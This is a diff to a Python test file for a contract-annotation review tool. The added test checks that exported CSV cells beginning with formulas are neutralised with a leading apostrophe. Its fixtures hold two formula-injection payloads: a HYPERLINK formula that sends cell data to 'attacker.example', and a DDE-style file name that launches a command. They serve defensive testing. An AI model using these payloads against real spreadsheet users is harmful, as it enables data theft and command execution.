@@ -2,6 +2,7 @@
 the CUAD span format, and training reads them as labels only where someone decided."""
 from __future__ import annotations
 
+import csv
 import json
 from datetime import datetime, timedelta
 from pathlib import Path
@@ -85,6 +86,32 @@ def test_decisions_export_as_training_data(audited_env: dict[str, str], tmp_path
     quotes = {" ".join(q.split()) for *_, q in decided}
     assert quotes <= {" ".join(r["text"].split()) for r in rows}
     assert sum(len(d.spans) for d in documents) == 1  # the accepted one; the rejected one is a negative
+
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+HOSTILE_NAME = "=1+2+cmd|' -c calc'!A0.txt"
+
+
+def test_exports_write_formula_cells_as_text(audited_env: dict[str, str], tmp_path: Path) -> None:
+    """A reviewer's comment and a file name are anyone's text: in the decisions CSV and the
+    training export's files.csv they start with an apostrophe, so a spreadsheet shows them."""
+    url = sqlite_url(audited_env)
+    now = datetime(2026, 12, 2, 9)
+    with session_scope(url) as session:
+        item = claim_next(session, "ann", now, 900)
+        assert item is not None
+        decide(session, item.id, "ann", "reject", item.version, now + timedelta(seconds=30), reason="not_a_clause",
+               comment=HYPERLINK)
+        session.get(schema.Document, item.document_id).filename = HOSTILE_NAME
+    assert run_cli(["review", "export", "--out", str(tmp_path / "decisions.csv")], audited_env).returncode == 0
+    [row] = [r for r in csv.DictReader((tmp_path / "decisions.csv").open(encoding="utf-8")) if r["comment"] != ""]
+    assert (row["comment"], row["filename"]) == ("'" + HYPERLINK, "'" + HOSTILE_NAME)
+    assert json.loads(row["previous"])["category"] == item.category  # JSON cells start with "{": left as they are
+    result = run_cli(["review", "export", "--training", "--out", str(tmp_path / "reviewed")], audited_env)
+    assert result.returncode == 0, result.stdout + result.stderr
+    [entry] = list(csv.DictReader((tmp_path / "reviewed" / "files.csv").open(encoding="utf-8")))
+    assert entry["pdf"] == "'" + HOSTILE_NAME
+    assert (tmp_path / "reviewed" / entry["txt"]).exists()  # the cell is text; the file it names is written
 
 
 def test_a_model_trains_with_reviewed_documents_beside_annotated_ones(tmp_path: Path) -> None:
